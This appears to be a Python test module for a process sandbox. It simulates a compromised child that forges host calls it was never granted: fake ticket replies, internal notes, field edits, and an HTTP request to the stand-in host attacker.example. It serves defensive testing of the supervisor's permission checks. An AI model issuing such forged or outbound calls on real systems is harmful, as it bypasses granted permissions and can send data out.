"""Host calls of a compromised child: well-formed ones, for what its module never requested.

A module without the imports has no such permission, but native code can write any frame.
"""

import json
import os
from collections.abc import Callable

from sandbox_child.attacks.attack import Attack
from sandbox_child.attacks.scene import Scene
from sandbox_child.lockdown.policy import PIPE_IN, PIPE_OUT
from sandbox_child.wire.frames import encode_frame
from sandbox_child.wire.messages import CALL, RESULT, HostCall

_MIB = 1 << 20
_WORK = 1
"""The seq of the event that the supervisor asks for before it is attacked."""
_TICKET = "01ARZ3NDEKTSV4RRFFQ69G5FAV"


def _asks(name: HostCall, request: dict[str, object]) -> Callable[[Scene], None]:
    """Wait for an event, make one host call, and end the event when it is answered."""
    call = encode_frame((CALL, 1, name), json.dumps(request).encode())

    def attempt(_scene: Scene) -> None:
        os.read(PIPE_IN, _MIB)
        os.write(PIPE_OUT, call)
        os.read(PIPE_IN, _MIB)
        os.write(PIPE_OUT, encode_frame((RESULT, _WORK, 0, 0, 0)))
        while os.read(PIPE_IN, _MIB):
            pass

    return attempt


def _attack(what: str, name: HostCall, **request: object) -> Attack:
    return Attack(f"calls.{what}", _asks(name, request), frozenset(), talks=True)


ATTACKS = (
    _attack("reply", HostCall.ADD_REPLY, ticket_id=_TICKET, body="forged", is_internal=False),
    _attack("note", HostCall.ADD_REPLY, ticket_id=_TICKET, body="forged", is_internal=True),
    _attack("set_field", HostCall.SET_CUSTOM_FIELD, ticket_id=_TICKET, key="k", value="forged"),
    _attack("send_out", HostCall.HTTP_REQUEST, method="GET", url="https://attacker.example/"),
)
